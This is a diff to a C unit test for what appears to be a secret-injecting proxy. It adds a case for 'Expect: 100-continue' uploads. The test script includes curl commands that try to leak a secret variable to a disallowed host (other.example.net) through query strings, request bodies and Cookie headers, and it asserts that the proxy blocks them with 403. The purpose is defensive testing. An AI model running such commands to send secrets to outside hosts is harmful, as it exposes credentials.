@@ -856,6 +856,8 @@ START_TEST(test_secrets_and_rules)
 	    "curl -s -m 5 -H 'Expect:' --data-binary \"{\\\"t\\\":\\\"$S\\\"}\" "
 	    "http://www.example.com/echo\n"
 	    "echo ---\n"
+	    "curl -s -m 5 --expect100-timeout 30 -H 'Expect: 100-continue' --data-binary "
+	    "\"k=$S\" http://www.example.com/echo | tail -1\n"
 	    "echo leak $(curl -s -m 5 -w ' %{http_code}' \"http://other.example.net/?k=$S\")\n"
 	    "echo leakbody $($c -H 'Expect:' --data-binary \"x$S\" http://other.example.net/)\n"
 	    "echo leakheader $($c -H \"Cookie: a=$(echo $S | tr a-z A-Z)\" http://other.example.net/)\n"
@@ -877,6 +879,7 @@ START_TEST(test_secrets_and_rules)
 	has_line(res.output, "X-Key: real-7f3a9c");
 	has_line(res.output, "{\"t\":\"real-7f3a9c\"}");
 	has_line(res.output, "Content-Length: 19"); /* the real value's, not the stand-in's */
+	has_line(res.output, "k=real-7f3a9c"); /* the proxy said 100 Continue itself */
 	has_line(res.output, "leak ward proxy: secret WARD_TEST_SECRET carried to other.example.net, "
 			     "not one of its hosts 403");
 	has_line(res.output, "leakbody 403");
